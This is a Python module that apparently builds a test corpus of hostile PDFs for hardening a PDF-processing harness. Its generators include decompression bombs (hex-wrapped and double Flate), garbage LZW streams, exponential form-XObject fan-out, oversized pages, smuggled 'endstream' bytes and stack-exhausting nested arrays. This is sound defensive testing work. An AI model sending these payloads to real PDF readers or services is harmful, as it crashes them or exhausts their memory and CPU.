"""A corpus of hostile papers, built here: every family that once took the harness down
(decompression by other filters, LZW, fan-out of form XObjects, absurd page sizes) and
variations of our own. Each is a few kilobytes at most."""

from __future__ import annotations

import zlib

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources %s >>"


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of ``objects`` (1: catalog, 2: pages, 3: the page…) with a correct xref table."""
    out, offsets = b"%PDF-1.7\n", []
    for i, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


def _stream(data: bytes, filters: bytes = b"", extra: bytes = b"") -> bytes:
    head = b"<< /Length %d" % len(data) + (b" /Filter " + filters if filters else b"") + extra + b" >>"
    return head + b"\nstream\n" + data + b"\nendstream"


def one_page(contents: bytes, resources: bytes = b"<< >>", more: list[bytes] | None = None,
             media: bytes = b"[0 0 595 842]") -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                (PAGE % resources).replace(b"[0 0 595 842]", media), contents, *(more or [])])


def _adler32_combine(a1: int, a2: int, len2: int) -> int:
    """zlib's adler32_combine: the checksum of A+B from those of A and B."""
    base = 65521
    rem = len2 % base
    sum1 = a1 & 0xFFFF
    sum2 = (rem * sum1) % base
    sum1 = (sum1 + (a2 & 0xFFFF) + base - 1) % base
    sum2 = (sum2 + (a1 >> 16) + (a2 >> 16) + base - rem) % base
    return sum1 | (sum2 << 16)


def _deflate_spaces(size: int) -> bytes:
    """zlib data of ``size`` spaces then a line, built in milliseconds: after a full flush the
    deflater's state is the same for every block, so one block's output repeats."""
    block, tail = b" " * (1 << 20), b"0 0 m 10 10 l S"
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    again = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    blocks = max(1, size // len(block))
    body = first + again * (blocks - 1) + comp.compress(tail) + comp.flush()
    checksum, one = zlib.adler32(block), zlib.adler32(block)
    for _ in range(blocks - 1):
        checksum = _adler32_combine(checksum, one, len(block))
    checksum = _adler32_combine(checksum, zlib.adler32(tail), len(tail))
    return b"\x78\xda" + body + checksum.to_bytes(4, "big")


def hex_flate() -> bytes:
    """Flate under ASCIIHex: the Flate guard sees hex digits, PDFium inflates gigabytes."""
    data = _deflate_spaces(3_000_000_000).hex().encode()
    return one_page(_stream(data, b"[/ASCIIHexDecode /FlateDecode]"))


def double_flate() -> bytes:
    """Flate of Flate: one layer inflates to a few MB, the second to gigabytes."""
    inner = _deflate_spaces(2_000_000_000)
    return one_page(_stream(zlib.compress(inner, 9), b"[/FlateDecode /FlateDecode]"))


def lzw() -> bytes:
    """An LZW content stream of garbage codes (once SIGABRT inside PDFium)."""
    return one_page(_stream(bytes(range(256)) * 64, b"/LZWDecode", b" /DecodeParms << /EarlyChange 0 >>"))


def fan_out(depth: int = 9, width: int = 12) -> bytes:
    """Form XObjects each drawing the next ``width`` times: width**depth paths on one page."""
    first = 5
    forms = []
    for level in range(depth):
        if level == depth - 1:
            body = b"0 0 m 1 1 l S " * 4
            res = b"<< >>"
        else:
            body = b"q /X Do Q " * width
            res = b"<< /XObject << /X %d 0 R >> >>" % (first + level + 1)
        forms.append(_stream(body, extra=b" /Type /XObject /Subtype /Form /BBox [0 0 595 842]"
                                         b" /Resources " + res))
    return one_page(_stream(b"/X Do"), b"<< /XObject << /X %d 0 R >> >>" % first, forms)


def wide_page(width: int = 100_000, height: int = 20) -> bytes:
    """A MediaBox no printer has (once: every paper check 'error' → conforme)."""
    return one_page(_stream(b"0 0 m 10 10 l S"), media=b"[0 0 %d %d]" % (width, height))


def endstream_inside() -> bytes:
    """``endstream`` bytes inside compressed data (the guard once stopped reading there)."""
    body = _deflate_spaces(2_000_000_000)
    cut = len(body) // 3
    body = body[:cut] + b"endstream" + body[cut:]
    return one_page(_stream(body, b"/FlateDecode"))


def flate_zeros(size: int = 400_000_000) -> bytes:
    """A plain Flate bomb: a content stream of ``size`` zero bytes (a few hundred kB)."""
    return one_page(_stream(zlib.compress(b"\0" * size, 9), b"/FlateDecode"))


def deep_arrays(depth: int = 200_000) -> bytes:
    """A resource dictionary nested far deeper than any reader's stack."""
    return one_page(_stream(b"0 0 m 10 10 l S"), b"[" * depth + b"]" * depth)


CORPUS = {"hex-flate": hex_flate, "double-flate": double_flate, "lzw": lzw, "fan-out": fan_out,
          "wide-page": wide_page, "endstream-inside": endstream_inside, "deep-arrays": deep_arrays}
